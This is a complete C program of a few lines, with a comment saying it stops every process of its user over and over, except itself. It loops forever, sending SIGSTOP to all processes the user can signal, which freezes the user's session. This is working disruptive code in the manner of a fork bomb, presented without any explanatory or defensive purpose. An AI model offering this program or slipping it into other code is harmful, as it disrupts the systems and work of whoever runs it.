/* Stops every process of its user, over and over, but itself. */
#include <signal.h>

int main(void) {
    for (;;)
        kill(-1, SIGSTOP);
}
